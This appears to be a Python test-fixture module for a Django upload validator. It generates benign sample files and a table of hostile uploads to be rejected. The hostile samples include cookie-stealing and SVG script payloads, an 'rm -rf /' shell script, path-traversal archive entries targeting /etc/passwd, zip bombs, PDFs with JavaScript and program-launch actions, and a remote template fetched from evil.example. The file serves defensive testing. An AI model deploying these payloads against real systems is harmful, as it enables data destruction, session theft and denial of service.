"""Small files for tests, honest and hostile, all made here."""

import struct
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

TYPES = "[Content_Types].xml"
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
    b"trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
)


def upload(content: bytes, name: str) -> SimpleUploadedFile:
    """Return ``content`` as a browser would send it under ``name``, without Django's own cleaning of the name."""
    sent = SimpleUploadedFile("file", content)
    sent.__dict__["_name"] = name
    return sent


def picture(format_name: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    """Return a picture whose left half is red and whose right half is blue."""
    image = Image.new(mode, size, "blue")
    image.paste(Image.new(mode, (size[0] // 2, size[1]), "red"))
    into = BytesIO()
    image.save(into, format_name, **options)
    return into.getvalue()


def photo_with_place(orientation: int = 1) -> bytes:
    """Return a JPEG that tells where and with what it was taken, and bears a comment."""
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 15.0, 1.5), 3: "E", 4: (120.0, 9.0, 2.5)})
    return picture("JPEG", exif=exif, comment=b"SecretComment", icc_profile=b"SecretProfile" * 20)


def archive(parts: Mapping[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an archive of ``parts``."""
    into = BytesIO()
    with zipfile.ZipFile(into, "w", compression) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return into.getvalue()


def docx(more: Mapping[str, bytes] | None = None, types: bytes = b"<Types/>") -> bytes:
    """Return the smallest thing that counts as a .docx, with ``more`` parts."""
    return archive({TYPES: types, "word/document.xml": b'<w:document xmlns:w="urn:w"/>', **(more or {})})


def xlsx() -> bytes:
    """Return the smallest thing that counts as an .xlsx."""
    return archive({TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


def ofd() -> bytes:
    """Return the smallest thing that counts as an .ofd."""
    return archive({"OFD.xml": b'<o:OFD xmlns:o="urn:o"/>', "Doc_0/Document.xml": b'<o:Document xmlns:o="urn:o"/>'})


def huge_png(width: int, height: int) -> bytes:
    """Return a PNG of a few bytes whose header claims these dimensions."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def png_with_swollen_text() -> bytes:
    """Return a PNG with a text that unpacks to 4 MB."""
    info = PngImagePlugin.PngInfo()
    info.add_text("comment", "a" * 4_000_000, zip=True)
    return picture("PNG", pnginfo=info)


def locked(content: bytes) -> bytes:
    """Return the archive with the mark of encryption on every part."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


GIF_SCRIPT = b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)//"
MACRO_TYPE = b'<Types><Override ContentType="x.document.macroEnabled.main"/></Types>'
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(200)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
REMOTE_TEMPLATE = (
    b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)

#: What must be refused: a name, the bytes, and a word of the reason.
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "empty": ("photo.jpg", b"", "empty"),
    "html as png": ("photo.png", HTML, "cannot be read"),
    "html as text": ("page.html", HTML, "kind"),
    "svg": ("drawing.svg", SVG, "kind"),
    "svg as jpeg": ("drawing.jpg", SVG, "cannot be read"),
    "xml with a doctype": ("data.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "kind"),
    "program": ("setup.exe", EXE, "kind"),
    "program as picture": ("photo.jpg", EXE, "cannot be read"),
    "script": ("run.sh", b"#!/bin/sh\nrm -rf /\n", "kind"),
    "elf as pdf": ("letter.pdf", b"\x7fELF" + bytes(100), "kind"),
    "zero bytes": ("photo.jpg", bytes(1000), "cannot be read"),
    "text with NUL": ("note.txt", b"abc\x00def", "kind"),
    "text with escapes": ("note.txt", b"\x1b]0;evil\x07", "kind"),
    "random as text": ("note.txt", bytes(range(128, 256)) * 3, "kind"),
    "cut jpeg": ("photo.jpg", picture(size=(400, 300))[:-900], "damaged"),
    "jpeg header only": ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF", "damaged"),
    "png with wrong sums": ("photo.png", picture("PNG").replace(b"IDAT", b"IDAX"), "damaged"),
    "png of 2,500 megapixels": ("photo.png", huge_png(50_000, 50_000), "pixels"),
    "png of 41 megapixels": ("photo.png", huge_png(8_200, 5_000), "pixels"),
    "png with a swollen text": ("photo.png", png_with_swollen_text(), "damaged"),
    "truecolour png without data": ("photo.png", huge_png(500, 500), "damaged"),
    "tiff": ("scan.tif", picture("TIFF"), "cannot be read"),
    "bmp": ("scan.bmp", picture("BMP"), "cannot be read"),
    "icon": ("favicon.ico", picture("ICO"), "cannot be read"),
    "avif": ("photo.avif", picture("AVIF"), "JPEG"),
    "heic": ("IMG_1.HEIC", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1" + bytes(64), "JPEG"),
    "video": ("clip.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(64), "Videos"),
    "plain zip": ("photos.zip", archive({"a.txt": b"a"}), "kind"),
    "zip as docx": ("letter.docx", archive({"a.txt": b"a"}), "kind"),
    "java archive": ("letter.docx", archive({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"}), "kind"),
    "cut docx": ("letter.docx", docx()[:-30], "damaged"),
    "docx with macros": ("letter.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
    "docm as docx": ("letter.docx", docx(types=MACRO_TYPE), "macros"),
    "docx with activeX": ("letter.docx", docx({"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
    "docx with a remote template": ("a.docx", docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "elsewhere"),
    "zip bomb": ("letter.docx", docx({"word/bomb.xml": bytes(8_000_000)}), "unpacks"),
    "bomb in the list of types": ("letter.docx", docx(types=b" " * 2_000_000), "unpacks"),
    "too many parts": ("letter.docx", docx({f"word/{n}.xml": b"" for n in range(2_100)}), "unpacks"),
    "path out of the archive": ("letter.docx", docx({"../../etc/passwd": b"x"}), "belong"),
    "absolute path": ("letter.docx", docx({"/etc/passwd": b"x"}), "belong"),
    "windows path": ("letter.docx", docx({"C:\\autoexec.bat": b"x"}), "belong"),
    "locked docx": ("letter.docx", locked(docx()), "password"),
    "old word": ("letter.doc", OLE, "kind"),
    "old word as docx": ("letter.docx", OLE, "kind"),
    "cut pdf": ("letter.pdf", PDF[:-8], "damaged"),
    "pdf with a script": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"), "programs"),
    "pdf that starts a program": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/A<</S/Launch/F(cmd)>>"), "programs"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x00" + bytes(100), "kind"),
    "gzip": ("a.gz", b"\x1f\x8b\x08\x00" + bytes(100), "kind"),
    "flash": ("a.swf", b"CWS\x09" + bytes(100), "kind"),
}

#: What may be taken: a name, the bytes, the name and the type it is kept under.
HONEST: dict[str, tuple[str, bytes, str, str]] = {
    "jpeg": ("灯.JPG", picture(), "灯.jpg", "image/jpeg"),
    "png": ("screen.png", picture("PNG"), "screen.png", "image/png"),
    "webp": ("photo.webp", picture("WEBP"), "photo.jpg", "image/jpeg"),
    "gif": ("moving.gif", picture("GIF"), "moving.png", "image/png"),
    "jpeg called png": ("photo.png", picture(), "photo.jpg", "image/jpeg"),
    "picture and script": ("photo.gif", GIF_SCRIPT, "photo.png", "image/png"),
    "picture and archive": ("photo.jpg", picture() + archive({"a": b"b"}), "photo.jpg", "image/jpeg"),
    "pdf": ("信.pdf", PDF, "信.pdf", "application/pdf"),
    "pdf called exe": ("letter.exe", PDF, "letter.pdf", "application/pdf"),
    "docx": (
        "a.docx", docx(), "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    ),
    "xlsx": ("a.xlsx", xlsx(), "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "ofd": ("票.ofd", ofd(), "票.ofd", "application/ofd"),
    "text": ("note.txt", "路灯不亮\n".encode(), "note.txt", "text/plain; charset=utf-8"),
    "gbk text": ("note.TXT", "路灯不亮\n".encode("gbk"), "note.txt", "text/plain; charset=utf-8"),
    "utf-16 text": ("note.txt", "路灯不亮\n".encode("utf-16"), "note.txt", "text/plain; charset=utf-8"),
}  # fmt: skip
